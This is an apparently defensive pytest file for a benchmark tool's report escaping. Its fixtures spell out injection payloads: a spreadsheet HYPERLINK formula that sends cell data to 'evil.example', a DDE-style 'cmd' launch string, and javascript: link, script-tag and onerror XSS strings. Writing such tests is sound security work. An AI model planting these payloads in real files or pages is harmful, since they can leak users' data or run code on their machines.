"""What a result document holds is shown as data in every output format:
no spreadsheet formula in a CSV cell, no heading, link or table column of
its own in Markdown, no markup in HTML (one escaping function per format,
:mod:`dlbench.report.escape`)."""

import csv
import io
import re
from types import SimpleNamespace

import pytest
from click.testing import CliRunner

from dlbench.report import compare, escape, history, table as model, render
from dlbench.results.document import write_document

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HEADING = "innocent\n# Injected heading\n| a | b |\n[link](javascript:alert(1)) <script>x</script>"


def document(scenario: str, error: str = "RuntimeError: boom") -> dict:
    return {"schema_version": 1, "environment": {"hostname": "box"}, "settings": {}, "results": [
        {"scenario": scenario, "backend": "numpy", "status": "ok",
         "metrics": {"samples_per_sec": 10.0, "test_accuracy": 0.5}},
        {"scenario": scenario, "backend": "torch", "status": "failed", "error": error, "metrics": {}}]}


def report(tmp_path, doc: dict, fmt: str) -> str:
    from dlbench.cli import main

    path = tmp_path / "run.json"
    write_document(doc, path)
    result = CliRunner().invoke(main, ["report", str(path), "--format", fmt, "--no-plots"])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize("text", ["=1+1", "+A1*2", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_start_like_a_formula_are_text(text):
    assert escape.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, "-1.5", "1e-3", 3, None, "xor-mlp", "digits mlp"])
def test_csv_numbers_and_plain_text_stay_as_they_are(value):
    assert escape.csv_cell(value) == value


def test_a_csv_report_never_holds_a_formula(tmp_path):
    records = list(csv.DictReader(io.StringIO(report(tmp_path, document(FORMULA, error="@cmd"), "csv"))))
    assert {r["scenario"] for r in records} == {"'" + FORMULA}
    assert not any(str(v).startswith(escape.FORMULA_STARTS) for r in records for v in r.values()
                   if not escape._is_number(str(v)))


def test_history_csv_never_holds_a_formula():
    stored = SimpleNamespace(path="=cmd()", number=1)
    row = {"scenario": FORMULA, "backend": "numpy", "status": "ok"}
    items = [history.Point(stored, {"environment": {"hostname": "+host"}}, row, -2.0)]
    record = next(csv.DictReader(io.StringIO(history.as_csv(items, "samples_per_sec"))))
    assert record["path"] == "'=cmd()" and record["scenario"] == "'" + FORMULA and record["value"] == "-2.0"


def test_markdown_names_never_become_headings_links_html_or_columns(tmp_path):
    text = report(tmp_path, document(HEADING, error="bad\n## Also a heading"), "markdown")
    lines = text.splitlines()
    assert not any(line.startswith("# Injected") or line.startswith("## Also") for line in lines)
    assert not any(line.startswith("| a |") for line in lines)
    assert not re.search(r"(?<!\\)<script", text) and not re.search(r"(?<!\\)\]\(javascript", text)
    heading = next(line for line in lines if "innocent" in line and line.startswith("## "))
    assert heading.startswith("## innocent # Injected heading \\| a \\| b \\|")
    assert all(line.count("|") - line.count("\\|") == lines[lines.index(heading) + 2].count("|")
               for line in lines if line.startswith("| ") and "numpy" in line)


def test_compare_markdown_escapes_names():
    doc = {"results": [{"scenario": HEADING, "backend": "numpy", "status": "ok",
                        "metrics": {"samples_per_sec": 1.0}}]}
    text = compare.markdown(compare.compare(doc, doc), ("a\n# base", "b|new"), 0.05)
    assert "\n# " not in text and "b\\|new" in text and "<script>" not in text


def test_html_reports_escape_names(tmp_path):
    text = report(tmp_path, document(HEADING, error="<img src=x onerror=alert(1)>"), "html")
    assert "<script>" not in text and "<img src=x" not in text
    assert "&lt;script&gt;" in text and "&lt;img src=x onerror=alert(1)&gt;" in text


def test_the_markdown_and_csv_escapes_of_one_value():
    assert escape.markdown_text("a|b\nc*d_e") == "a\\|b c\\*d\\_e"
    assert render.render_csv(model.runs_of([document("=1")])).count("'=1") == 2
